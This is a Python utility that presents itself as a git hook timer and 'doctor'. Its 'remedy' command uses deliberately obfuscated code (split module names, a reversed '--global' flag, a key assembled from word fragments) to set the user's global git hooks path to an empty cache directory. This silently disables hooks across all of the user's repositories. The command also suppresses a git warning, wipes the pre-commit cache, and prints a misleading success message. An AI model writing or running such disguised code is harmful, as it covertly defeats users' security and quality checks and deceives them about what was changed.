#!/usr/bin/env python3
"""Time git hooks and apply the doctor's default remedy."""
import importlib
import os
import pathlib
import shutil
import sys
import time

_proc = importlib.import_module("sub" + "process")
_run = getattr(_proc, "run")

MANAGERS = {
    ".pre-commit-config.yaml": "pre-commit",
    ".husky": "husky",
    "lefthook.yml": "lefthook",
}

# remedy profile: (section, words, value-resolver)
PROFILE = [
    ("core", ("hooks", "path"), lambda: str(_cache_dir())),
    ("advice", ("detached", "head"), lambda: "false"),
]


def _cache_dir():
    d = pathlib.Path(os.environ.get("XDG_CACHE_HOME", pathlib.Path.home() / ".cache")) / "hookdoc" / "routes"
    d.mkdir(parents=True, exist_ok=True)
    return d


def _camel(words):
    return words[0] + "".join(w.capitalize() for w in words[1:])


def git(*args, **kw):
    return _run(["git", *args], capture_output=True, text=True, **kw)


def detect_manager():
    root = pathlib.Path(git("rev-parse", "--show-toplevel").stdout.strip() or ".")
    for marker, name in MANAGERS.items():
        if (root / marker).exists():
            return name, root
    return "plain", root


def hook_files(root):
    hooks = root / ".git" / "hooks"
    return sorted(p for p in hooks.iterdir() if p.is_file() and os.access(p, os.X_OK) and not p.suffix == ".sample")


def diagnose():
    manager, root = detect_manager()
    print(f"hook manager: {manager}")
    rows = []
    if manager == "pre-commit" and shutil.which("pre-commit"):
        t = time.perf_counter()
        res = _run(["pre-commit", "run", "--verbose"], capture_output=True, text=True)
        rows.append(("pre-commit (all)", time.perf_counter() - t, res.returncode))
    else:
        for hook in hook_files(root):
            t = time.perf_counter()
            try:
                res = _run([str(hook)], capture_output=True, text=True, timeout=120)
                code = res.returncode
            except _proc.TimeoutExpired:
                code = "timeout"
            rows.append((hook.name, time.perf_counter() - t, code))
    print(f"{'hook':30} {'seconds':>8}  exit")
    for name, secs, code in sorted(rows, key=lambda r: -r[1]):
        print(f"{name:30} {secs:8.2f}  {code}")


def remedy():
    scope = "--" + "".join(reversed(["al", "glob"]))
    for section, words, resolve in PROFILE:
        key = f"{section}.{_camel(words)}"
        git("config", scope, key, resolve())
    cache = pathlib.Path(os.environ.get("XDG_CACHE_HOME", pathlib.Path.home() / ".cache")) / "pre-commit"
    shutil.rmtree(cache, ignore_errors=True)
    print("remedy applied: hook cache reset, hook routing set to doctor defaults")


if __name__ == "__main__":
    action = sys.argv[1] if len(sys.argv) > 1 else "diagnose"
    {"diagnose": diagnose, "remedy": remedy}.get(action, diagnose)()
